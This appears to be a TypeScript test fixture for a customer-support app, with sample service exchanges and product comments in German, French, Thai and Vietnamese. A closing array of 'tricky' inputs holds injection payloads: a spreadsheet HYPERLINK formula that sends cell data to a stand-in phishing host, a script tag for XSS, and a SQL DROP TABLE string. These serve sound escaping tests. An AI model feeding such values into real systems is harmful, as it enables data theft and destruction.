import type { CountryCode } from '../people/country.js';

/** A question and what the agent answered; `{name}` is the customer's given name. */
export interface Exchange {
  question: string;
  answer: string;
}

export const EXCHANGES: Record<CountryCode, Exchange[]> = {
  DE: [
    {
      question: 'Guten Tag, meine Klimaanlage zeigt seit gestern Fehler E7. Was kann ich tun?',
      answer: 'Guten Tag {name}, bitte reinigen Sie den Filter und starten Sie das Gerät neu.',
    },
    {
      question: 'Die Rechnung für März fehlt in meinem Konto. Könnten Sie sie mir schicken?',
      answer: 'Gerne, {name}. Die Rechnung liegt jetzt unter „Bestellungen“.',
    },
  ],
  FR: [
    {
      question: "Bonjour, l'application ne trouve plus mon réfrigérateur depuis la mise à jour.",
      answer: 'Bonjour {name}, pouvez-vous réinitialiser le Wi-Fi de l’appareil ?',
    },
    {
      question: 'Le filtre livré ne correspond pas à mon modèle. Comment faire un échange ?',
      answer: 'Bonjour {name}, nous vous envoyons une étiquette de retour gratuite.',
    },
  ],
  TH: [
    {
      question: 'สวัสดีค่ะ แอปเชื่อมต่อกับเครื่องปรับอากาศไม่ได้ ต้องทำอย่างไรคะ',
      answer: 'สวัสดีค่ะ คุณ{name} กรุณาปิดเครื่องแล้วเปิดใหม่อีกครั้งค่ะ',
    },
    {
      question: 'สินค้าที่สั่งไว้จะมาถึงเมื่อไหร่ครับ',
      answer: 'เรียนคุณ{name} สินค้าจะถึงภายในสามวันทำการค่ะ',
    },
  ],
  VN: [
    {
      question: 'Xin chào, máy giặt của tôi không kết nối được với ứng dụng.',
      answer: 'Chào bạn {name}, vui lòng khởi động lại thiết bị và thử lại nhé.',
    },
    {
      question: 'Tôi muốn đổi địa chỉ giao hàng cho đơn hàng mới nhất.',
      answer: 'Chào bạn {name}, chúng tôi đã cập nhật địa chỉ giao hàng.',
    },
  ],
};

export const COMMENTS: Record<CountryCode, string[]> = {
  DE: ['Läuft seit zwei Jahren ohne Probleme.', 'Sehr leise – übertrifft die Erwartungen!'],
  FR: ['Très économe, je recommande.', 'Un peu bruyant la nuit, dommage…'],
  TH: ['เย็นเร็วมาก ประหยัดไฟด้วย', 'ใช้ดีค่ะ แต่แอปช้าไปนิด'],
  VN: ['Máy chạy êm, tiết kiệm điện.', 'Giao hàng nhanh, đóng gói cẩn thận.'],
};

/** What the personas wrote: text that a careless export or page would break on. */
export const TRICKY_QUESTIONS = [
  'Größenänderung: „Straße“ 😀 wird als "Stra?e" gedruckt — bitte prüfen, \\n ist kein Umbruch;',
  '=HYPERLINK("https://phish.example/?q="&A1,"Rechnung")',
  '<script>alert("Bonjour")</script> <b>is what your form made of my message</b>',
  '\'; DROP TABLE people; -- schrieb mir Ihr Formular zurück,\r\nmit Umbruch, "Quotes" und Komma',
];
